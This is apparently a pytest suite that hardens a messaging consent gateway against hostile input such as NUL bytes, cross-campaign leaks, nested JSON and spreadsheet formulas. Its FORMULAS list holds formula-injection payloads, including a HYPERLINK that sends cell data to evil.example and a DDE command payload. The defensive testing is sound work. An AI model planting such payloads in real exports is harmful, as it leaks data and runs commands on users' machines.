"""Input that was tried as an attacker or a careless user would, on SQLite and PostgreSQL.

A STOP with a stray NUL byte still opts the person out; CSV rows and queries holding NUL are
refused with a clear 4xx, never a 503; an operator cannot subscribe a Telegram user; a
campaign never learns who in another campaign erased a person; exported CSV cells never run
as spreadsheet formulas; a WhatsApp sender on the SMS webhook changes nothing.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator

import pytest

from consentgate.bot.consent import Evidence
from consentgate.testing.fakes.telegram_api import FakeTelegram, message_update
from consentgate.testing.fakes.twilio_webhooks import inbound_sms_form, post_signed
from consentgate.testing.harness import (
    BOB_TOKEN,
    JANE,
    JANE_AUTH,
    JANE_NUMBER,
    JANE_SID,
    PUBLIC_URL,
    TELEGRAM_SECRET,
    Harness,
    running_gateway,
)
from tests.dbutil import counts

PERSON = "+447911123456"


@pytest.fixture
async def fake_telegram() -> AsyncIterator[FakeTelegram]:
    async with FakeTelegram() as running:
        yield running


@pytest.fixture
async def gw2(db_url: str, fake_telegram: FakeTelegram) -> AsyncIterator[Harness]:
    async with running_gateway(db_url, telegram=fake_telegram) as h:
        yield h


async def _status(gw: Harness, address: str = PERSON, channel: str = "sms") -> str:
    code, body = await gw.api("GET", f"/api/v1/subscribers/{channel}/{address}")
    assert code == 200, body
    return str(body["status"])


# -- item 1: NUL and lone surrogates in inbound replies ------------------------------------

@pytest.mark.parametrize("text", ["STOP\x00", "Stop\x00 please", "\x00stop"])
async def test_a_stop_with_a_nul_opts_out(gw2: Harness, text: str) -> None:
    await gw2.subscribe(PERSON)
    status, twiml = await gw2.sms_in(PERSON, text)
    assert status == 200, twiml
    assert "unsubscribed" in twiml
    assert await _status(gw2) == "opted_out"
    code, replies = await gw2.api("GET", "/api/v1/replies")
    assert code == 200
    stored = [r["text"] for r in replies]
    assert stored and all("\x00" not in t for t in stored)


async def test_a_reply_with_nul_in_every_field_is_stored_clean(gw2: Harness) -> None:
    await gw2.subscribe(PERSON)
    form = inbound_sms_form(PERSON + "\x00", JANE_NUMBER, "hello\x00 there", None, None,
                            account_sid=JANE_SID)
    form["MessageSid"] = form["MessageSid"] + "\x00"
    path = f"/webhooks/twilio/{JANE}/sms"
    async with await post_signed(gw2.session, gw2.url + path, form, JANE_AUTH,
                                 signature_url=PUBLIC_URL + path) as r:
        assert r.status == 200, await r.text()
    _, replies = await gw2.api("GET", "/api/v1/replies")
    assert [r["text"] for r in replies] == ["hello there"]


@pytest.mark.parametrize("text", ["/stop\u0000", "/stop\ud800", "STOP\udfff\u0000"])
async def test_telegram_stop_with_a_nul_or_a_lone_surrogate_opts_out(
        gw2: Harness, text: str) -> None:
    user = 4242
    async with gw2.db.write() as conn:  # as if /start and "yes" had happened
        await gw2.gateway.ledger.record_consent(
            conn, JANE, "telegram", str(user),
            Evidence("telegram_start", "telegram /start", "update 1", "v1", "recipient"),
            by_recipient=True)
    assert await _status(gw2, str(user), "telegram") == "subscribed"
    async with gw2.session.post(
            f"{gw2.url}/webhooks/telegram/{JANE}",
            data=json.dumps(message_update(300, user, text)),
            headers={"Content-Type": "application/json",
                     "X-Telegram-Bot-Api-Secret-Token": TELEGRAM_SECRET}) as r:
        assert r.status == 200, await r.text()
    assert await _status(gw2, str(user), "telegram") == "opted_out"


async def test_a_consent_import_rejects_the_rows_holding_nul(gw2: Harness) -> None:
    data = ("channel,address,method,source,evidence\n"
            "sms,+447911123456,paper_form,street stall,form 1\n"
            "sms,+447911123457,paper_form,street\x00stall,form 2\n"
            "sms,+447911123458,paper_form,street stall,form\x00 3\n")
    code, body = await gw2.api("POST", "/api/v1/consents/import", raw=data.encode(),
                               headers={"Content-Type": "text/csv"})
    assert code == 200, body
    assert body["imported"] == 1
    assert [(r["line"], r["code"]) for r in body["rejected"]] == [(3, "invalid_text"),
                                                                   (4, "invalid_text")]
    assert await _status(gw2, "+447911123457") == "unknown"


async def test_a_suppression_import_rejects_the_rows_holding_nul(gw2: Harness) -> None:
    data = ("channel,address,reason\n"
            "sms,+447911123456,moved away\n"
            "sms,+447911123457,asked\x00 us\n")
    code, body = await gw2.api("POST", "/api/v1/suppressions/import", raw=data.encode(),
                               headers={"Content-Type": "text/csv"})
    assert code == 200, body
    assert body["imported"] == 1
    assert [(r["line"], r["code"]) for r in body["rejected"]] == [(3, "invalid_text")]
    assert await _status(gw2, "+447911123457") == "unknown"


async def test_an_audit_query_with_nul_is_refused_not_a_503(gw2: Harness) -> None:
    code, body = await gw2.api("GET", "/api/v1/audit?actor=a%00b")
    assert code == 422, body
    assert body["code"] == "invalid_input"
    code, body = await gw2.api("GET", "/api/v1/audit?action=x%00&subject=%00")
    assert code == 422, body


# -- item 9: operators cannot subscribe a Telegram user ------------------------------------

@pytest.mark.parametrize("method", ["paper_form", "verbal", "web_form", "import", "keyword"])
async def test_an_operator_cannot_subscribe_a_telegram_user(gw2: Harness, method: str) -> None:
    before = await counts(gw2.db)
    code, body = await gw2.api("POST", "/api/v1/consents", {
        "channel": "telegram", "address": "4242", "method": method,
        "source": "street stall", "evidence": "signed form"})
    assert code == 422, body
    assert body["code"] == "method_not_allowed_for_channel"
    assert await counts(gw2.db) == before
    assert await _status(gw2, "4242", "telegram") == "unknown"


async def test_a_consent_import_cannot_subscribe_a_telegram_user(gw2: Harness) -> None:
    data = ("channel,address,method,source,evidence\n"
            "telegram,4242,import,old bot export,row 1\n"
            "sms,+447911123456,paper_form,street stall,form 1\n")
    code, body = await gw2.api("POST", "/api/v1/consents/import", raw=data.encode(),
                               headers={"Content-Type": "text/csv"})
    assert code == 200, body
    assert body["imported"] == 1
    assert [(r["line"], r["code"]) for r in body["rejected"]] == [
        (2, "method_not_allowed_for_channel")]
    assert await _status(gw2, "4242", "telegram") == "unknown"


# -- item 10: another campaign's operator stays unnamed ------------------------------------

async def test_history_names_no_operator_of_another_campaign(gw2: Harness) -> None:
    await gw2.subscribe(PERSON)
    await gw2.subscribe(PERSON, token=BOB_TOKEN)
    code, erased = await gw2.api("DELETE", f"/api/v1/subjects/sms/{PERSON}", token=BOB_TOKEN)
    assert code == 200, erased
    code, view = await gw2.api("GET", f"/api/v1/subscribers/sms/{PERSON}")
    assert code == 200, view
    assert view["status"] == "suppressed"
    blocks = [h for h in view["history"] if h["event"] == "suppressed"]
    assert [h["actor"] for h in blocks] == ["another campaign"]
    code, export = await gw2.api("GET", f"/api/v1/subjects/sms/{PERSON}")
    assert code == 200
    assert "Bob Roe" not in json.dumps(view) + json.dumps(export)
    # Bob's own view still names who did it.
    _, own = await gw2.api("GET", f"/api/v1/subscribers/sms/{PERSON}", token=BOB_TOKEN)
    assert [h["actor"] for h in own["history"] if h["event"] == "suppressed"] == ["Bob Roe"]


# -- item 6: no spreadsheet formulas in exported CSV ---------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1",
            "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


async def test_exported_suppressions_never_start_a_cell_with_a_formula(gw2: Harness) -> None:
    numbers = [f"+4479111234{i:02d}" for i in range(len(FORMULAS))]
    out = io.StringIO()
    writer = csv.writer(out, quoting=csv.QUOTE_ALL)
    writer.writerow(["channel", "address", "reason"])
    writer.writerows(["sms", n, r] for n, r in zip(numbers, FORMULAS, strict=True))
    code, body = await gw2.api("POST", "/api/v1/suppressions/import",
                               raw=out.getvalue().encode(),
                               headers={"Content-Type": "text/csv"})
    assert code == 200 and body["imported"] == len(FORMULAS), body
    code, text = await gw2.api("GET", "/api/v1/suppressions")
    assert code == 200
    rows = list(csv.DictReader(io.StringIO(str(text))))
    assert sorted(r["address"] for r in rows) == sorted(numbers)  # numbers stay numbers
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell in numbers, row
    reasons = {r["address"]: r["reason"] for r in rows}
    for number, formula in zip(numbers, FORMULAS, strict=True):
        # stored as it came (whitespace trimmed on import), written with a leading quote
        assert reasons[number] == "'" + formula.strip(), reasons[number]
    # The exported file imports back as it was: the quote is read off again.
    code, body = await gw2.api("POST", "/api/v1/suppressions/import", raw=str(text).encode(),
                               headers={"Content-Type": "text/csv"}, token=BOB_TOKEN)
    assert code == 200 and body["imported"] == len(FORMULAS), body
    _, again = await gw2.api("GET", "/api/v1/suppressions", token=BOB_TOKEN)
    bob_reasons = {r["address"]: r["reason"]
                   for r in csv.DictReader(io.StringIO(str(again)))}
    assert all(bob_reasons[n] == reasons[n] for n in numbers)


# -- item 11: another channel's sender on the SMS webhook ----------------------------------

@pytest.mark.parametrize("sender", ["whatsapp:+447911123456", "messenger:123456789"])
async def test_a_non_sms_sender_on_the_sms_webhook_changes_nothing(gw2: Harness,
                                                                   sender: str) -> None:
    before = await counts(gw2.db)
    status, twiml = await gw2.sms_in(sender, "START")
    assert status == 200
    assert "<Message" not in twiml
    assert await _status(gw2) == "unknown"
    assert await counts(gw2.db) == before


async def test_unsubscribe_pages_are_not_sniffed(gw2: Harness) -> None:
    async with gw2.session.get(f"{gw2.url}/u/not-a-real-token") as r:
        assert r.status == 404
        assert r.headers.get("X-Content-Type-Options") == "nosniff"


# -- the edges owned here: the Telegram webhook and the CSV imports ---------------------------

@pytest.mark.parametrize("body", [b"[" * 100_000, b'{"a":' * 50_000])
async def test_a_deeply_nested_telegram_update_gets_a_4xx_not_a_retry_for_ever(
        gw2: Harness, body: bytes) -> None:
    before = await counts(gw2.db)
    async with gw2.session.post(f"{gw2.url}/webhooks/telegram/{JANE}", data=body,
                                headers={"Content-Type": "application/json",
                                         "X-Telegram-Bot-Api-Secret-Token":
                                             TELEGRAM_SECRET}) as r:
        assert 400 <= r.status < 500, await r.text()
    assert await counts(gw2.db) == before


@pytest.mark.parametrize("path", ["/api/v1/consents/import", "/api/v1/suppressions/import"])
async def test_a_csv_import_whose_header_is_one_huge_field_is_refused(gw2: Harness,
                                                                     path: str) -> None:
    before = await counts(gw2.db)
    code, body = await gw2.api("POST", path, raw=b'{"a":' * 50_000,
                               headers={"Content-Type": "text/csv"})
    assert (code, body["code"]) == (422, "invalid_csv"), body
    assert await counts(gw2.db) == before
